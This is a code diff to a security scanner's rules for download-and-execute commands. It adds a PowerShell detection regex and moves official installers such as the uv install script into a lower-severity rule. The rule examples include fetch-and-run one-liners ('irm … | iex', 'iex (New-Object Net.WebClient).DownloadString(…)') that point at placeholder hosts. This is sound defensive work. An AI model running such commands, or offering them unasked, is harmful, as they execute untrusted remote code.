@@ -11,8 +11,13 @@ function isOfficial(command: string): boolean {
   return urls.length > 0 && urls.every(isOfficialInstaller);
 }
 
+const PS_DOWNLOAD_INVOKE =
+  /\b(?:iex|Invoke-Expression)\b[^\n]{0,200}?\b(?:DownloadString|Invoke-WebRequest|iwr|Invoke-RestMethod|irm|Net\.WebClient)\b[^\n]{0,200}|\b(?:DownloadString|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]{0,300}?\|\s*(?:iex|Invoke-Expression)\b/gi;
+
 function pipedDownloads(segment: Segment, known: boolean): Hit[] {
-  return hitsOf(PIPE_TO_INTERPRETER, segment.text, (m) => isOfficial(m[0]) === known);
+  const hits = hitsOf(PIPE_TO_INTERPRETER, segment.text, (m) => isOfficial(m[0]) === known);
+  if (known) hits.push(...hitsOf(PS_DOWNLOAD_INVOKE, segment.text, (m) => isOfficial(m[0])));
+  return hits;
 }
 
 export const downloadExecuteRules: Rule[] = [
@@ -41,10 +46,10 @@ export const downloadExecuteRules: Rule[] = [
     fix: "Ask the user to install the tool themselves, or pin the installer's version and checksum.",
     fileKinds: SCRIPTS_AND_PROSE,
     context: "command",
-    keywords: ["curl", "wget"],
+    keywords: ["curl", "wget", "iex", "invoke-expression"],
     match: (segment) => pipedDownloads(segment, true),
     examples: {
-      positive: ["curl --proto '=https' -sSf https://sh.rustup.rs | sh", "curl -LsSf https://astral.sh/uv/install.sh | sh"],
+      positive: ["curl --proto '=https' -sSf https://sh.rustup.rs | sh", "curl -LsSf https://astral.sh/uv/install.sh | sh", 'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"'],
       negative: ["curl -fsSL https://example.invalid/setup.sh -o setup.sh", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh"],
     },
   },
@@ -74,11 +79,11 @@ export const downloadExecuteRules: Rule[] = [
     fileKinds: ["powershell", ...SCRIPTS_AND_PROSE],
     context: "command",
     keywords: ["iex", "invoke-expression"],
-    pattern:
-      /\b(?:iex|Invoke-Expression)\b[^\n]{0,200}?\b(?:DownloadString|Invoke-WebRequest|iwr|Invoke-RestMethod|irm|Net\.WebClient)\b|\b(?:DownloadString|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]{0,300}?\|\s*(?:iex|Invoke-Expression)\b/gi,
+    // An official installer (exact host, scanner/allowlist.ts) is SR-DLEXEC-002's, at medium.
+    match: (segment) => hitsOf(PS_DOWNLOAD_INVOKE, segment.text, (m) => !isOfficial(m[0])),
     examples: {
       positive: ["iex (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')", "irm https://example.invalid/x.ps1 | iex"],
-      negative: ["Invoke-WebRequest https://example.invalid/data.json -OutFile data.json"],
+      negative: ["Invoke-WebRequest https://example.invalid/data.json -OutFile data.json", "irm https://astral.sh/uv/install.ps1 | iex"],
     },
   },
   {
